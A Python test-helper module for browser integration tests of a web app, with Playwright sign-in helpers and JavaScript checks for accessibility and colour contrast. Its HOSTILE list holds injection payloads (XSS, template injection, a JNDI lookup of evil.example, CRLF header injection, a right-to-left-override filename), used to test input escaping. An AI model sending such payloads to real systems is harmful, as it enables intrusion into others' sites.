"""A house that a browser can reach, what pages are held to in it, and text that means harm."""

from __future__ import annotations

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

from playwright.async_api import Browser, ConsoleMessage, Page, expect

from bot.model.actor import person
from tests.integrations.web import scene
from tests.integrations.web.house import House

HOSTILE = (
    '<script>document.title="owned"</script>',
    "<img src=x onerror=\"document.title='owned'\">",
    '"><svg onload=document.title="owned">',
    "'-document.title='owned'-'",
    "</pre></textarea></title><script>document.title='owned'</script>",
    "{{ 7 * 7 }}{% for x in [1] %}owned{% endfor %}",
    "${jndi:ldap://evil.example}",
    "javascript:document.title='owned'",
    "pay \u202egnp.exe",
    "\x1b]0;owned\x07 and \x7f",
    "one\r\nSet-Cookie: owned=1",
    "A" * 4096,
)


class Site:
    """A house that a browser can reach, and people in front of it."""

    def __init__(self, house: House, browser: Browser, address: str) -> None:
        self.house = house
        self.address = address
        self.said: list[str] = []
        self._browser = browser

    @asynccontextmanager
    async def visit(self, name: str, path: str = "/", *, scripts: bool = True) -> AsyncIterator[Page]:
        """A browser of this person's own, signed in by a one-time link and standing on this page."""
        link, _ = await self.house.door.make_link(person(scene.PEOPLE[name], "cli"))
        async with await self._browser.new_context(java_script_enabled=scripts) as context:
            page = await context.new_page()
            page.on("console", self._hear)
            page.on("pageerror", lambda error: self.said.append(str(error)))
            await page.goto(self.address + link)
            if not scripts:
                await page.get_by_role("button", name="Open Tocsin").click()
            await expect(page.get_by_role("navigation", name="Pages")).to_be_visible()
            await page.goto(self.address + path)
            if scripts:
                await expect(page.locator("#live")).to_have_text("Live")
            yield page

    def _hear(self, message: ConsoleMessage) -> None:
        if message.type in {"error", "warning"}:
            self.said.append(message.text)


LOST = """() => {
  const all = (selector) => [...document.querySelectorAll(selector)];
  const ids = all("[id]").map((element) => element.id);
  const pointed = all("[aria-labelledby]").map((element) => element.getAttribute("aria-labelledby"))
    .concat(all("a[href^='#']").map((link) => link.getAttribute("href").slice(1)));
  return [
    ...(all("h1").length === 1 ? [] : ["not one heading of the first level"]),
    ...all("input:not([type=hidden]), textarea, select").filter((field) => !field.labels.length),
    ...all("img:not([alt])"),
    ...all("button, a, summary").filter((control) => !control.textContent.trim() && !control.querySelector("img[alt]")),
    ...ids.filter((id, index) => ids.indexOf(id) !== index).map((id) => `two are called ${id}`),
    ...pointed.filter((id) => !ids.includes(id)).map((id) => `nothing is called ${id}`),
  ].map((found) => found.outerHTML ?? found);
}"""

FAINT = """() => {
  // WCAG 2: 4.5 to 1 for text; half-transparent washes are laid over what is behind them first.
  const channels = (color) => (color.match(/[\\d.]+/g) ?? []).map(Number);
  const over = ([r, g, b, a = 1], below) => [r, g, b].map((value, index) => value * a + below[index] * (1 - a));
  const behind = (element) => {
    if (!element) return [255, 255, 255];
    const color = channels(getComputedStyle(element).backgroundColor);
    return color[3] === 0 ? behind(element.parentElement) : over(color, behind(element.parentElement));
  };
  const light = (rgb) => rgb.map((value) => value / 255)
    .map((value) => (value <= 0.03928 ? value / 12.92 : ((value + 0.055) / 1.055) ** 2.4))
    .reduce((sum, value, index) => sum + value * [0.2126, 0.7152, 0.0722][index], 0);
  const ratio = (one, other) => (Math.max(one, other) + 0.05) / (Math.min(one, other) + 0.05);
  return [...document.querySelectorAll("body *")]
    .filter((element) => [...element.childNodes].some((node) => node.nodeType === 3 && node.data.trim()))
    .filter((element) => element.getClientRects().length && !element.closest(".unseen, .skip"))
    .map((element) => {
      const back = behind(element);
      return [ratio(light(over(channels(getComputedStyle(element).color), back)), light(back)), element];
    })
    .filter(([contrast]) => contrast < 4.5)
    .map(([contrast, element]) => `${contrast.toFixed(2)}: ${element.outerHTML}`);
}"""
